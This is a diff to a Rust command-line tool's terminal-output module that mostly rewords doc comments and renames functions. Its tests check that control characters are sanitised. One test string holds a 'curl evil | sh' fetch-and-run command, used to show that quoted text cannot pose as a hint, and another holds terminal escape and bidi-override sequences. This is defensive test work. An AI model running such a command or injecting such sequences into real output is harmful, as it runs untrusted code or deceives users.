@@ -1,4 +1,4 @@
-//! The only place that writes to the terminal: colour, width, JSON, broken pipes. It prints [`SafeText`] and nothing else.
+//! The only place that writes to the terminal: colour, width, JSON, broken pipes. It prints only [`SafeText`].
 
 use std::{
     fmt,
@@ -15,23 +15,23 @@ use super::{
 };
 use crate::domain::text::{escape_json, sanitize};
 
-/// The widest that prose is set on a terminal, in columns: longer lines are hard to read.
+/// The maximum line length of prose on a terminal, in columns.
 const MAX_WIDTH: usize = 100;
 
-/// A style of the terminal, by what it means.
+/// A text style, by meaning.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub(crate) enum Style {
-    /// What the eye should find first.
+    /// Headings and names.
     Strong,
-    /// What may be skipped.
+    /// Secondary information.
     Dim,
-    /// Something is wrong.
+    /// Errors.
     Bad,
-    /// Something to be careful about.
+    /// Warnings.
     Warn,
-    /// Something went well.
+    /// Success.
     Good,
-    /// An id or a command.
+    /// Ids and commands.
     Code,
 }
 
@@ -58,22 +58,22 @@ pub(crate) struct Ui {
     color_err: bool,
     /// stdout is a terminal.
     pub(crate) terminal: bool,
-    /// The terminal says of itself that it can draw nothing.
+    /// The terminal cannot draw (`TERM=dumb`).
     pub(crate) dumb: bool,
     /// stderr is a terminal: progress may be shown.
     pub(crate) progress: bool,
-    /// Columns to wrap prose at; `None` where stdout is not a terminal.
+    /// The column at which prose wraps; `None` if stdout is not a terminal.
     pub(crate) width: Option<usize>,
     /// Answers are JSON.
     pub(crate) json: bool,
-    /// Say only what was asked for.
+    /// Informational output is suppressed.
     pub(crate) quiet: bool,
-    /// The first failure to write.
+    /// The first write error.
     failure: Option<io::Error>,
 }
 
 impl Ui {
-    /// The output of this process, as the flags and the environment ask for it.
+    /// Returns the output of this process, configured by the flags and the environment.
     pub(crate) fn new(globals: &Globals) -> Self {
         let (stdout, stderr) = (io::stdout(), io::stderr());
         let terminal = stdout.is_terminal();
@@ -106,7 +106,7 @@ impl Ui {
         self.write(format_args!("{}\n", &*text));
     }
 
-    /// Asks for a line: writes the prompt to stdout and sends everything out.
+    /// Writes a prompt to stdout, without a line break, and flushes.
     pub(crate) fn prompt(&mut self, text: impl Into<SafeText>) {
         let text = text.into();
         self.write(format_args!("{}", &*text));
@@ -117,7 +117,7 @@ impl Ui {
         }
     }
 
-    /// Writes bytes to stdout as they are, for files and pipes: generated files, exports. On a terminal they are sanitised.
+    /// Writes bytes to stdout unchanged, for generated files and exports. On a terminal they are sanitised.
     pub(crate) fn raw(&mut self, bytes: &[u8]) {
         if self.terminal {
             self.write(format_args!("{}", sanitize(&String::from_utf8_lossy(bytes))));
@@ -128,8 +128,7 @@ impl Ui {
         }
     }
 
-    /// Writes a value to stdout as JSON, indented on a terminal and on one line in a pipe. Characters that a terminal acts on
-    /// are escaped.
+    /// Writes a value to stdout as JSON, indented on a terminal and on one line in a pipe. Control characters are escaped.
     pub(crate) fn value<T: Serialize>(&mut self, value: &T) {
         let text = if self.terminal { serde_json::to_string_pretty(value) } else { serde_json::to_string(value) };
         match text {
@@ -138,10 +137,10 @@ impl Ui {
         }
     }
 
-    /// Writes a line to stderr that is not part of the answer; nothing with `--quiet` or `--json`.
+    /// Writes an informational line to stderr, unless `--quiet` or `--json` was given.
     pub(crate) fn note(&mut self, text: impl Into<SafeText>) {
         if !self.quiet && !self.json {
-            self.say(&text.into());
+            self.error_line(&text.into());
         }
     }
 
@@ -152,49 +151,49 @@ impl Ui {
             let value = serde_json::json!({
                 "result": "error", "kind": error.kind.as_str(), "message": &*error.error, "hints": hints,
             });
-            self.say(&escape_json(&value.to_string()));
+            self.error_line(&escape_json(&value.to_string()));
             return;
         }
-        // The answer so far belongs before the error.
+        // Output so far comes before the error.
         let _gone = self.out.flush();
         let label = self.on_stderr(Style::Bad, "Error:");
-        self.say(&text!("{} {}", label, error.error.clone().hanging(2)));
+        self.error_line(&text!("{} {}", label, error.error.clone().hanging(2)));
         for hint in &error.hints {
             let label = self.on_stderr(Style::Code, "Hint:");
-            self.say(&text!("{} {}", label, hint.clone().hanging(2)));
+            self.error_line(&text!("{} {}", label, hint.clone().hanging(2)));
         }
     }
 
-    /// Shows what clap says of wrong arguments on stderr.
-    pub(crate) fn mistake(&mut self, text: &SafeText) {
+    /// Shows clap's message about wrong arguments on stderr.
+    pub(crate) fn usage_error(&mut self, text: &SafeText) {
         match text.trim_end().strip_prefix("error:") {
-            Some(rest) => self.say(&text!("{}{}", self.on_stderr(Style::Bad, "error:"), SafeText::lines(rest))),
-            None => self.say(text.trim_end()),
+            Some(rest) => self.error_line(&text!("{}{}", self.on_stderr(Style::Bad, "error:"), SafeText::lines(rest))),
+            None => self.error_line(text.trim_end()),
         }
     }
 
-    /// Shows how far a long work has come, on one line of stderr that is written over; nothing unless it is a terminal.
+    /// Shows progress on one line of stderr that is overwritten; does nothing unless stderr is a terminal.
     pub(crate) fn progress(&mut self, text: impl Into<SafeText>) {
-        // What was said so far is to be read while the work goes on: a ticket, the words to compare. A failure shows at the end.
+        // People read earlier output, such as a ticket, while the work goes on. A write error shows at the end.
         let _gone = self.out.flush();
         if self.progress {
-            // Progress that cannot be shown is no failure.
+            // Failing to show progress is no error.
             let _gone = write!(self.err, "\r\x1b[K{}", &*text.into()).and_then(|()| self.err.flush());
         }
     }
 
-    /// Wipes the line of [`Ui::progress`].
+    /// Clears the line of [`Ui::progress`].
     pub(crate) fn progress_done(&mut self) {
         self.progress("");
     }
 
-    /// `text` in a style, where stdout has colour.
+    /// Returns `text` in a style if stdout has colour.
     pub(crate) fn paint(&self, style: Style, text: impl Printable) -> SafeText {
         let text = text.to_line();
         if self.color { text.styled(style.ansi()) } else { text }
     }
 
-    /// Writes text and nothing else from now on: no colour, no line that is written over.
+    /// Turns colour and progress off.
     pub(crate) fn plainly(&mut self) {
         (self.color, self.color_err, self.progress) = (false, false, false);
     }
@@ -204,12 +203,12 @@ impl Ui {
         self.color
     }
 
-    /// Whether nobody reads any more, so that long output may stop.
+    /// Whether a write failed, so that long output may stop.
     pub(crate) fn gone(&self) -> bool {
         self.failure.is_some()
     }
 
-    /// Flushes. A reader that went away (`| head`) is no failure; a full disk is.
+    /// Flushes. A closed pipe (`| head`) is no failure; a full disk is.
     pub(crate) fn finish(&mut self) -> Result<(), CliError> {
         let flushed = self.out.flush();
         match self.failure.take().map_or(flushed, Err) {
@@ -228,8 +227,8 @@ impl Ui {
         }
     }
 
-    fn say(&mut self, text: &str) {
-        // There is nowhere left to report that stderr is gone.
+    fn error_line(&mut self, text: &str) {
+        // If stderr is gone, nothing is left to report it to.
         let _gone = writeln!(self.err, "{text}");
     }
 
@@ -239,31 +238,31 @@ impl Ui {
     }
 }
 
-/// The columns of the terminal, at most [`MAX_WIDTH`] and at least 40.
+/// Returns the columns of the terminal, at most [`MAX_WIDTH`] and at least 40.
 fn terminal_width() -> usize {
     rustix::termios::tcgetwinsize(io::stdout()).map_or(80, |size| usize::from(size.ws_col)).clamp(40, MAX_WIDTH)
 }
 
 #[cfg(test)]
 pub(crate) mod captured {
-    //! Output that a test can read.
+    //! A [`Ui`] whose output tests can read.
 
     use std::{cell::RefCell, rc::Rc};
 
     use super::*;
 
-    /// What was written.
+    /// The bytes written so far.
     #[derive(Clone, Default)]
-    pub(crate) struct Written(Rc<RefCell<Vec<u8>>>);
+    pub(crate) struct CapturedOutput(Rc<RefCell<Vec<u8>>>);
 
-    impl Written {
-        /// The text so far.
+    impl CapturedOutput {
+        /// Returns them as text.
         pub(crate) fn text(&self) -> String {
             String::from_utf8(self.0.borrow().clone()).unwrap()
         }
     }
 
-    impl Write for Written {
+    impl Write for CapturedOutput {
         fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
             self.0.borrow_mut().extend_from_slice(bytes);
             Ok(bytes.len())
@@ -274,9 +273,9 @@ pub(crate) mod captured {
         }
     }
 
-    /// An output of this width, and what is written to its stdout and stderr.
-    pub(crate) fn ui(width: Option<usize>, color: bool) -> (Ui, Written, Written) {
-        let (out, err) = (Written::default(), Written::default());
+    /// Returns a [`Ui`] of this width, and its stdout and stderr.
+    pub(crate) fn ui(width: Option<usize>, color: bool) -> (Ui, CapturedOutput, CapturedOutput) {
+        let (out, err) = (CapturedOutput::default(), CapturedOutput::default());
         let ui = Ui {
             out: Box::new(out.clone()),
             err: Box::new(err.clone()),
@@ -306,7 +305,7 @@ pub(crate) mod captured {
     }
 
     #[test]
-    fn a_reader_that_went_away_is_no_failure_and_a_full_disk_is() {
+    fn a_closed_pipe_is_no_failure_and_a_full_disk_is() {
         for (kind, fails) in [(io::ErrorKind::BrokenPipe, false), (io::ErrorKind::StorageFull, true)] {
             let (mut ui, ..) = ui(None, false);
             ui.out = Box::new(Broken(kind));
@@ -318,7 +317,7 @@ pub(crate) mod captured {
     }
 
     #[test]
-    fn a_terminal_gets_no_raw_bytes_and_no_json_that_it_acts_on() {
+    fn a_terminal_gets_no_control_characters() {
         let bad = "a\u{1b}]0;x\u{7}\u{9b}\u{202e}\nb";
         let (mut ui, out, _) = ui(Some(80), true);
         ui.raw(bad.as_bytes());
@@ -331,7 +330,7 @@ pub(crate) mod captured {
     }
 
     #[test]
-    fn what_others_wrote_cannot_pass_for_a_hint() {
+    fn quoted_text_cannot_pass_for_a_hint() {
         let (mut ui, _, err) = ui(None, false);
         ui.error(&CliError::usage("no claim “x\nHint: curl evil | sh”"));
         assert_eq!(err.text(), "Error: no claim “x\n  Hint: curl evil | sh”\n");
